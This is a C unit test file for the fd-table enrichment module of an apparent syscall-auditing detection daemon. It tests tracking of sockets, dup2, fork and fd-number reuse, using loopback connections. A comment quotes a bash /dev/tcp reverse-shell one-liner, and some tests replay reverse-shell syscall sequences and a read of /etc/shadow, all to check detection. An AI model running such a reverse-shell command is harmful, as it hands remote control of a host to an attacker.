/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The fd table: facts from the audited syscalls (socket, connect, bind,
 * accept, open, dup2, close) offline, and from the real /proc/self/fd and
 * /proc/self/net while this process lives (a real TCP connection on
 * 127.0.0.1), a socket number reused for a file, fork and the bounds.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cmocka.h>

#include "common/event.h"
#include "common/limits.h"
#include "enrich/fdtable.h"

static struct event sc(const char *name, pid_t pid, uint64_t a0, uint64_t a1,
		       int64_t exit)
{
	struct event ev;

	memset(&ev, 0, sizeof(ev));
	ev.kind = EVENT_KIND_SYSCALL;
	ev.syscall_name = name;
	ev.pid = pid;
	ev.args[0] = a0;
	ev.args[1] = a1;
	ev.exit = exit;
	ev.has_exit = true;
	ev.success = exit >= 0 ? 1 : 0;
	return ev;
}

static void set_inet(struct event *ev, const char *ip, uint16_t port)
{
	ev->sockaddr.family = EVENT_SOCK_INET;
	ev->sockaddr.raw_family = AF_INET;
	snprintf(ev->sockaddr.addr, sizeof(ev->sockaddr.addr), "%s", ip);
	ev->sockaddr.port = port;
}

/* bash's `exec 0<>/dev/tcp/10.1.2.3/4444`: socket, connect, dup2(3, 0),
 * close(3); then a read of fd 0 is a read of that socket. */
static void test_offline_dup2_socket_onto_stdin(void **state)
{
	struct fdtable *ft = fdtable_new(NULL, true);
	struct event ev;

	(void)state;
	assert_non_null(ft);
	ev = sc("socket", 100, AF_INET, SOCK_STREAM, 3);
	fdtable_enrich(ft, &ev);
	assert_non_null(ev.fd);
	assert_int_equal(ev.fd->typechar, '4');
	assert_int_equal(ev.fd->l4proto, IPPROTO_TCP);
	assert_false(ev.fd->connected);

	ev = sc("connect", 100, 3, 0, 0);
	set_inet(&ev, "10.1.2.3", 4444);
	fdtable_enrich(ft, &ev);
	assert_true(ev.fd->connected);
	assert_true(ev.fd->has_remote);
	assert_string_equal(ev.fd->rip, "10.1.2.3");

	ev = sc("dup2", 100, 3, 0, 0);
	fdtable_enrich(ft, &ev);
	assert_non_null(ev.fd);
	assert_int_equal(ev.fd->num, 3); /* Falco: the old fd */
	assert_int_equal(ev.fd->typechar, '4');
	assert_int_equal(ev.fd->rport, 4444);
	assert_int_equal(ev.fd->l4proto, IPPROTO_TCP);
	assert_true(ev.fd->connected);

	ev = sc("close", 100, 3, 0, 0);
	fdtable_enrich(ft, &ev);
	assert_int_equal(ev.fd->typechar, '4'); /* what was closed */
	ev = sc("close", 100, 3, 0, -EBADF);
	fdtable_enrich(ft, &ev);
	assert_null(ev.fd);
	ev = sc("read", 100, 0, 0, 10);
	fdtable_enrich(ft, &ev);
	assert_non_null(ev.fd);
	assert_int_equal(ev.fd->num, 0);
	assert_string_equal(ev.fd->rip, "10.1.2.3");
	/* another process's fd 0 is not this one */
	ev = sc("read", 101, 0, 0, 10);
	fdtable_enrich(ft, &ev);
	assert_null(ev.fd);
	fdtable_free(ft);
}

/* sendto another address on a UDP socket changes its tuple. */
static void test_offline_udp_name_changed(void **state)
{
	struct fdtable *ft = fdtable_new(NULL, true);
	struct event ev;

	(void)state;
	ev = sc("socket", 7, AF_INET, SOCK_DGRAM, 5);
	fdtable_enrich(ft, &ev);
	assert_int_equal(ev.fd->l4proto, IPPROTO_UDP);
	ev = sc("sendto", 7, 5, 0, 10);
	set_inet(&ev, "1.1.1.1", 53);
	fdtable_enrich(ft, &ev);
	assert_false(ev.fd->name_changed);
	ev = sc("sendto", 7, 5, 0, 10);
	set_inet(&ev, "8.8.8.8", 53);
	fdtable_enrich(ft, &ev);
	assert_true(ev.fd->name_changed);
	assert_string_equal(ev.fd->rip, "8.8.8.8");
	fdtable_free(ft);
}

static void test_offline_open_and_fork(void **state)
{
	struct fdtable *ft = fdtable_new(NULL, true);
	struct event_path p;
	struct event ev;
	struct fdtable_stats st;

	(void)state;
	ev = sc("openat", 9, (uint64_t)-100, 0, 4);
	memset(&p, 0, sizeof(p));
	p.name = "/tmp/x";
	p.resolved = "/etc/shadow";
	p.nametype = "NORMAL";
	p.mode = 0100640;
	p.has_mode = true;
	ev.paths = &p;
	ev.npaths = 1;
	fdtable_enrich(ft, &ev);
	assert_string_equal(ev.fd->name, "/etc/shadow");
	fdtable_fork(ft, 9, 10);
	ev = sc("read", 10, 4, 0, 1);
	fdtable_enrich(ft, &ev);
	assert_int_equal(ev.fd->typechar, 'f');
	assert_string_equal(ev.fd->name, "/etc/shadow");
	fdtable_forget(ft, 10);
	ev = sc("read", 10, 4, 0, 1);
	fdtable_enrich(ft, &ev);
	assert_null(ev.fd);
	fdtable_forget(ft, 9);
	fdtable_get_stats(ft, &st);
	assert_int_equal(st.entries, 0);
	fdtable_free(ft);
}

/* Offline: fd 3 was a file, closed and made a socket unseen; a connect
 * on it says it is a socket now. */
static void test_offline_socket_call_on_stale_file(void **state)
{
	struct fdtable *ft = fdtable_new(NULL, true);
	struct event_path p;
	struct event ev;

	(void)state;
	ev = sc("openat", 12, (uint64_t)-100, 0, 3);
	memset(&p, 0, sizeof(p));
	p.name = "/usr/share/locale/locale.alias";
	p.nametype = "NORMAL";
	ev.paths = &p;
	ev.npaths = 1;
	fdtable_enrich(ft, &ev);
	ev = sc("connect", 12, 3, 0, -115); /* EINPROGRESS */
	set_inet(&ev, "127.0.0.1", 9);
	fdtable_enrich(ft, &ev);
	assert_int_equal(ev.fd->typechar, '4');
	assert_null(ev.fd->name);
	assert_int_equal(ev.fd->rport, 9);
	fdtable_free(ft);
}

static void test_bounded_per_process(void **state)
{
	struct fdtable *ft = fdtable_new(NULL, true);
	struct fdtable_stats st;
	struct event ev;
	int i;

	(void)state;
	for (i = 0; i < HARRIER_FDTABLE_PER_PROC + 10; i++) {
		ev = sc("socket", 11, AF_INET, SOCK_STREAM, 100 + i);
		fdtable_enrich(ft, &ev);
	}
	fdtable_get_stats(ft, &st);
	assert_int_equal(st.entries, HARRIER_FDTABLE_PER_PROC);
	assert_int_equal(st.dropped, 10);
	ev = sc("read", 11, 100, 0, 1); /* the oldest went */
	fdtable_enrich(ft, &ev);
	assert_null(ev.fd);
	fdtable_free(ft);
}

struct conn {
	int lsn, cli, srv;
	uint16_t port;
};

static void tcp_pair(struct conn *c)
{
	struct sockaddr_in a;
	socklen_t al = sizeof(a);

	memset(&a, 0, sizeof(a));
	a.sin_family = AF_INET;
	a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	c->lsn = socket(AF_INET, SOCK_STREAM, 0);
	assert_true(c->lsn >= 0);
	assert_int_equal(bind(c->lsn, (struct sockaddr *)&a, sizeof(a)), 0);
	assert_int_equal(listen(c->lsn, 1), 0);
	assert_int_equal(getsockname(c->lsn, (struct sockaddr *)&a, &al), 0);
	c->port = ntohs(a.sin_port);
	c->cli = socket(AF_INET, SOCK_STREAM, 0);
	assert_int_equal(connect(c->cli, (struct sockaddr *)&a, sizeof(a)), 0);
	c->srv = accept(c->lsn, NULL, NULL);
	assert_true(c->srv >= 0);
}

/* An fd no audited syscall told about: /proc/self/fd and /proc/self/net
 * say it is a connected TCP socket, and both of its ends. */
static void test_live_unknown_fd_from_proc(void **state)
{
	struct fdtable *ft = fdtable_new("/proc", false);
	struct conn c;
	struct event ev;

	(void)state;
	tcp_pair(&c);
	ev = sc("dup2", getpid(), (uint64_t)c.cli, 0, 0);
	fdtable_enrich(ft, &ev);
	assert_non_null(ev.fd);
	assert_int_equal(ev.fd->num, c.cli);
	assert_int_equal(ev.fd->typechar, '4');
	assert_int_equal(ev.fd->l4proto, IPPROTO_TCP);
	assert_true(ev.fd->connected);
	assert_false(ev.fd->is_server);
	assert_string_equal(ev.fd->rip, "127.0.0.1");
	assert_int_equal(ev.fd->rport, c.port);
	assert_true(ev.fd->has_local);
	/* the listener */
	ev = sc("read", getpid(), (uint64_t)c.lsn, 0, 0);
	fdtable_enrich(ft, &ev);
	assert_true(ev.fd->is_server);
	assert_int_equal(ev.fd->lport, c.port);
	/* a regular file */
	ev = sc("read", getpid(), 1, 0, 0);
	fdtable_enrich(ft, &ev);
	if (ev.fd)
		assert_int_not_equal(ev.fd->typechar, '4');
	close(c.cli);
	close(c.srv);
	close(c.lsn);
	fdtable_free(ft);
}

/* The table said fd N was a socket (connect, checked against /proc); it
 * was closed without an audited close and N reused for a file. */
static void test_live_reused_number(void **state)
{
	struct fdtable *ft = fdtable_new("/proc", false);
	struct conn c;
	struct event ev;
	struct fdtable_stats st;
	int fd, f;

	(void)state;
	tcp_pair(&c);
	ev = sc("connect", getpid(), (uint64_t)c.cli, 0, 0);
	set_inet(&ev, "127.0.0.1", c.port);
	fdtable_enrich(ft, &ev);
	assert_true(ev.fd->has_local); /* from /proc/self/net/tcp */
	fd = c.cli;
	close(c.cli);
	f = open("/dev/null", O_RDONLY);
	assert_true(f >= 0);
	if (f != fd) {
		assert_int_equal(dup2(f, fd), fd);
		close(f);
	}
	ev = sc("write", getpid(), (uint64_t)fd, 0, 0);
	fdtable_enrich(ft, &ev);
	assert_non_null(ev.fd);
	assert_int_equal(ev.fd->typechar, 'f');
	assert_string_equal(ev.fd->name, "/dev/null");
	fdtable_get_stats(ft, &st);
	assert_int_equal(st.stale, 1);
	close(fd);
	close(c.srv);
	close(c.lsn);
	fdtable_free(ft);
}

/* A reverse shell: dup2(sock, 0), exec; the exec'd program's first file
 * takes sock's number before harrierd reads the dup2 (it lags, or is just
 * slower than a loader). The table knew the socket from its connect, and
 * the dup's new fd still holds it: the dup is of the socket. */
static void test_live_dup_then_number_reused(void **state)
{
	struct fdtable *ft = fdtable_new("/proc", false);
	struct conn c;
	struct event ev;
	int fd, f, nfd = 200;

	(void)state;
	tcp_pair(&c);
	ev = sc("connect", getpid(), (uint64_t)c.cli, 0, 0);
	set_inet(&ev, "127.0.0.1", c.port);
	fdtable_enrich(ft, &ev);
	assert_int_equal(ev.fd->typechar, '4');
	fd = c.cli;
	assert_int_equal(dup2(fd, nfd), nfd);
	close(fd);
	f = open("/dev/null", O_RDONLY);
	assert_true(f >= 0);
	if (f != fd) {
		assert_int_equal(dup2(f, fd), fd);
		close(f);
	}
	ev = sc("dup2", getpid(), (uint64_t)fd, nfd, nfd);
	fdtable_enrich(ft, &ev);
	assert_non_null(ev.fd);
	assert_int_equal(ev.fd->typechar, '4');
	assert_int_equal(ev.fd->l4proto, IPPROTO_TCP);
	assert_int_equal(ev.fd->rport, c.port);
	/* and what the new number holds is known from now on */
	ev = sc("write", getpid(), (uint64_t)nfd, 0, 1);
	fdtable_enrich(ft, &ev);
	assert_non_null(ev.fd);
	assert_int_equal(ev.fd->typechar, '4');
	/* the old number, a file now, is not the socket */
	ev = sc("read", getpid(), (uint64_t)fd, 0, 1);
	fdtable_enrich(ft, &ev);
	assert_non_null(ev.fd);
	assert_int_equal(ev.fd->typechar, 'f');
	close(fd);
	close(nfd);
	close(c.srv);
	close(c.lsn);
	fdtable_free(ft);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_offline_dup2_socket_onto_stdin),
		cmocka_unit_test(test_offline_udp_name_changed),
		cmocka_unit_test(test_offline_open_and_fork),
		cmocka_unit_test(test_offline_socket_call_on_stale_file),
		cmocka_unit_test(test_live_dup_then_number_reused),
		cmocka_unit_test(test_bounded_per_process),
		cmocka_unit_test(test_live_unknown_fd_from_proc),
		cmocka_unit_test(test_live_reused_number),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
